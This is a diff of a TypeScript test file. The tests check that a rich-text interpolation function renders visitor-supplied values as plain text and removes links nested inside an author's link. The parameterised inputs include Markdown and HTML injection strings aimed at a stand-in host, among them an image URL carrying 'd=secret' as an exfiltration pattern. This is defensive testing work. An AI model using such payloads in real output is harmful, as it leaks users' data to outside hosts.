@@ -137,7 +137,49 @@ describe("10.2 interpolateRichText", () => {
     expect(filled).toEqual([p("x ", "a", "\n", "b", "\n\n", "t", "\n", "z")])
   })
 
-  test("keeps links and pictures of a value within a line", () => {
+  test.each([
+    "**b** _i_ `c`",
+    "![x](https://evil.example/?d=secret)",
+    "[t](https://evil.example)",
+    "<https://evil.example>",
+    "[t][r]\n[r]: https://evil.example",
+    "<img src=https://evil.example>",
+    "```\nc\n```",
+    "- a\n- b",
+    "# t",
+    "> q",
+    "&lt;b&gt; \\*",
+    "***",
+  ])("shows what a visitor said as plain text: %j", (value) => {
+    const scope = testScope({ variables: { A: value }, plain: ["A"] })
+    const fillWith = (node: RichTextNode) =>
+      interpolateRichText([node], scope, { printsLastOfList: false })
+    expect(fillWith(p("{{A}}"))).toEqual([p(value)])
+    expect(fillWith(p("x {{A}}!"))).toEqual([p("x ", value, "!")])
+    const bold = { text: value, bold: true }
+    expect(fillWith(p({ text: "{{A}}", bold: true }))).toEqual([p(bold)])
+    expect(fillWith(p("{{={{A}}.at(9)=}}"))).toEqual([p(`${value}.at(9)`)])
+  })
+
+  test("reads what code made of a visitor's words as Markdown", () => {
+    const scope = testScope({ variables: { A: "a" }, plain: ["A"], inline: { "{{A}}": "**a**" } })
+    const filled = interpolateRichText([p("{{={{A}}=}}")], scope, { printsLastOfList: false })
+    expect(filled).toEqual([p({ text: "a", bold: true })])
+  })
+
+  test("leaves no link of a value within a link of the author", () => {
+    const scope = testScope({
+      variables: { A: "[t](https://evil.example) ![u](https://evil.example)" },
+    })
+    const link = { type: "a", url: "https://x.y" }
+    const filled = interpolateRichText([p({ ...link, children: [{ text: "to {{A}}" }] })], scope, {
+      printsLastOfList: false,
+    })
+    const children = ["to ", "t", " ", "u"].map((text) => ({ text }))
+    expect(filled).toEqual([p({ ...link, children })])
+  })
+
+  test("keeps links of a value within a line", () => {
     const scope = testScope({ variables: { A: "[t](https://x.y)" } })
     const richText = [p({ text: "x {{A}}", bold: true })]
     const filled = interpolateRichText(richText, scope, { printsLastOfList: false })
